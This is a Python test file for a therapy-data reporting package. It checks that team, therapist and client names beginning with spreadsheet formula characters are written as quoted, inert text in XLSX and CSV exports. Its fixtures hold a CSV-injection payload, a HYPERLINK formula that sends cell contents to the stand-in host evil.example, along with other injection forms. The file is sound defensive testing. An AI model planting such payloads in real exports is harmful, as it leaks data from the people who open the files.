"""Formula injection: a name that starts like a formula is text in every file the package writes.

A team called ``=HYPERLINK("http://evil.example/?d="&A2,"Klikk her")`` must not become a live
formula in a leader's spreadsheet (OWASP, "CSV Injection"). Each dangerous form — a value that
starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return — is put in a team name, a
therapist name and a client code, and every export is opened back: with openpyxl (no cell is
a formula; the value starts with a single quote) and as CSV (the value starts with a quote).
"""

from __future__ import annotations

import csv
import dataclasses
import datetime as dt
import io
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from fitdata.data.store import reader_for
from fitdata.features.service import ServiceFilters, parse_period, service_summary
from fitdata.features.service.couples import couple_summary
from fitdata.features.service.follow_up import follow_up_summary
from fitdata.outputs.export import export_csv
from fitdata.outputs.report import render
from tests.builders import session_rows, write_database

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A2,"Klikk her")'
#: One value of each dangerous form (OWASP: = + - @ tab carriage-return).
DANGEROUS = (HYPERLINK, "+47 1+1", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1")


def _dangerous(value: str) -> bool:
    return value.startswith(("=", "+", "-", "@", "\t", "\r"))


def build_hostile_db(path: Path) -> Path:
    """Six teams named after the dangerous forms, each with six closed client-episodes."""
    teams, therapists, clients, episodes, frames = [], [], [], [], []
    start = dt.date(2025, 7, 7)
    for t, name in enumerate(DANGEROUS):
        team, therapist = f"T{t}", f"P{t}"
        teams.append({"team_id": team, "name": name, "service": "Voksen"})
        therapists.append({"therapist_id": therapist, "name": name, "team_id": team})
        for c in range(6):
            client = f"{DANGEROUS[(t + c) % len(DANGEROUS)][:1]}K{t}{c}"
            episode = f"E{t}{c}"
            ors = [15.0 + c, 18.0 + c, 24.0 + c]
            frames.append(
                session_rows(
                    episode,
                    client,
                    therapist,
                    team,
                    ors,
                    [36.0, 38.0, 39.0],
                    start=start,
                    first_id=1 + 10 * (6 * t + c),
                )
            )
            episodes.append(
                {
                    "episode_id": episode,
                    "client_id": client,
                    "therapist_id": therapist,
                    "team_id": team,
                    "started": start,
                    "ended": start + dt.timedelta(weeks=2),
                    "end_type": "planned",
                    "format": "individual",
                }
            )
            clients.append({"client_id": client, "birth_year": 1980, "age_group": "adult"})
    return write_database(
        path,
        teams=pd.DataFrame(teams),
        therapists=pd.DataFrame(therapists),
        clients=pd.DataFrame(clients),
        episodes=pd.DataFrame(episodes),
        sessions=pd.concat(frames, ignore_index=True),
    )


@pytest.fixture(scope="module")
def hostile_db(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return build_hostile_db(tmp_path_factory.mktemp("hostile") / "hostile.duckdb")


def assert_workbook_is_inert(data: bytes, expected: set[str]) -> None:
    """No cell of the workbook is a formula, and each expected value is there behind a quote."""
    expected = {value.replace("\r", "\n") for value in expected}  # XML reads CR back as LF
    book = openpyxl.load_workbook(io.BytesIO(data))
    found = set()
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert not _dangerous(cell.value), (sheet.title, cell.coordinate, cell.value)
                    if cell.value.startswith("'") and cell.value[1:] in expected:
                        found.add(cell.value[1:])
    assert found == expected


def test_the_reports_workbook_writes_team_names_as_text(hostile_db: Path) -> None:
    reader = reader_for(hostile_db)
    for team_id in (None, "T0"):  # the service, and the formula team as the focus
        filters = ServiceFilters(parse_period("2025Q3"), team_id=team_id)
        summary = service_summary(reader, filters)
        assert set(summary.teams["name"]) == set(DANGEROUS)
        assert_workbook_is_inert(render(summary, "xlsx", "nb"), set(DANGEROUS))
        # with the couples' and the discussed cases' sheets too (issues 20 and 22)
        couples = couple_summary(reader, filters)
        follow_up = follow_up_summary(reader, filters, as_of=dt.date(2026, 1, 5))
        # these teams had no flagged case: give the discussed cases' team table a (hidden) row
        # per team, so its sheet carries every dangerous name too
        rows = pd.DataFrame({"team_id": range(len(DANGEROUS)), "name": list(DANGEROUS)})
        teams = rows.reindex(columns=follow_up.teams.columns).assign(
            name=list(DANGEROUS), suppressed=True, detail_suppressed=True, selected=False
        )
        follow_up = dataclasses.replace(follow_up, teams=teams)
        workbook = render(summary, "xlsx", "nb", couples, follow_up)
        assert len(openpyxl.load_workbook(io.BytesIO(workbook)).sheetnames) > 7
        assert_workbook_is_inert(workbook, set(DANGEROUS))


def test_fitdata_export_neutralises_every_text_value(hostile_db: Path, tmp_path: Path) -> None:
    out = tmp_path / "export.csv"
    export_csv(hostile_db, out)
    with open(out, encoding="utf-8", newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert len(rows) == 6 * 6 * 3
    seen = {column: set() for column in ("team_name", "therapist_name", "client")}
    for row in rows:
        for column, value in row.items():
            assert not _dangerous(value), (column, value)
        for column in seen:
            seen[column].add(row[column])
    assert {f"'{name}" for name in DANGEROUS} == seen["team_name"] == seen["therapist_name"]
    assert {v[:2] for v in seen["client"]} == {f"'{name[:1]}" for name in DANGEROUS}
    assert {row["ors_total"] for row in rows} >= {"15.0", "29.0"}  # numbers stay numbers
